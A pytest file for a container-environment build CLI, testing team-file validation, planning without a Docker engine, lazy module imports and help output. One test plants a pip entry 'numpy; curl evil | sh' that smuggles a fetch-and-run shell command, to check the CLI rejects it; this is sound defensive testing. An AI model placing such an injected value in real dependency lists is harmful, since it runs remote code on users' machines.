"""Team files, the lock, shared layers, the lazy CLI and the target registry (no engine)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from tests.support import ROOT, run_cli
from tests.support.team import GOOD


def test_cli_refuses_a_hostile_team_file(tmp_path: Path) -> None:
    f = tmp_path / "envbuild.toml"
    f.write_text('[image.cpu]\ntarget = "cpu"\npip = ["numpy; curl evil | sh"]\n')
    for cmd in (["team", "plan"], ["team", "build"], ["team", "plan", "--json"]):
        r = run_cli(*cmd, "--file", str(f))
        assert r.returncode == 2, r.stderr
        text = r.stderr if "--json" not in cmd else json.loads(r.stdout)["error"]["message"]
        assert str(f) in text and "[image.cpu] pip" in text and "Traceback" not in r.stderr
    assert not (tmp_path / "envbuild.lock").exists()  # nothing half-written
    r = run_cli("team", "plan", "--file", str(tmp_path / "missing.toml"))
    assert r.returncode == 2 and "no such team file" in r.stderr


def test_team_plan_cli_without_an_engine(tmp_path: Path) -> None:
    f = tmp_path / "envbuild.toml"
    f.write_text(GOOD)
    r = run_cli("team", "plan", "--file", str(f), "--json", env={"DOCKER_HOST": "unix:///nope"})
    assert r.returncode == 0, r.stderr
    data = json.loads(r.stdout)
    assert [i["name"] for i in data["images"]] == ["a", "b", "c"]
    assert {i["cache"] for i in data["images"]} == {"unknown (no engine)"}
    assert data["lock_changes"] == {"a": ["new image"], "b": ["new image"], "c": ["new image"]}
    assert set(data["images"][0]) >= {"torch", "variant", "python", "os", "base_image", "tag"}
    text = run_cli("team", "plan", "--file", str(f), env={"DOCKER_HOST": "unix:///nope"})
    assert text.returncode == 0 and "shared layers" in text.stdout and "torch" in text.stdout
    r = run_cli("team", "plan", "--file", str(f), "--only", "zz")
    assert r.returncode == 2 and "no image 'zz'" in r.stderr


# -- the CLI loads only the command it runs; the target registry ---------------------------------
def test_resolve_does_not_import_the_build_stack() -> None:
    code = ("import sys; from envbuild.cli import run; rc = run(['resolve', '--cuda', '12.2', "
            "'--json']); mods = sorted(m for m in sys.modules if m.startswith(('envbuild.', "
            "'jinja2', 'docker', 'rich', 'requests'))); print('MODS', mods, rc)")
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT,
                       check=True)
    mods = p.stdout.rsplit("MODS", 1)[1]
    for heavy in ("envbuild.features.make", "envbuild.engine.build", "envbuild.engine.docker",
                  "envbuild.render.context",
                  "envbuild.cli.build_cmd", "envbuild.cli.team_cmd", "envbuild.cli.doctor_cmd",
                  "envbuild.engine.registry", "jinja2", "docker", "rich", "requests"):
        assert f"'{heavy}'" not in mods, heavy
    assert mods.strip().endswith("0")


def test_help_lists_every_command_and_team_help() -> None:
    r = run_cli("--help")
    for c in ("resolve", "render", "build", "validate", "make", "doctor", "explain", "matrix",
              "team"):
        assert c in r.stdout
    for sub in ("plan", "build", "check"):
        assert run_cli("team", sub, "--help").returncode == 0
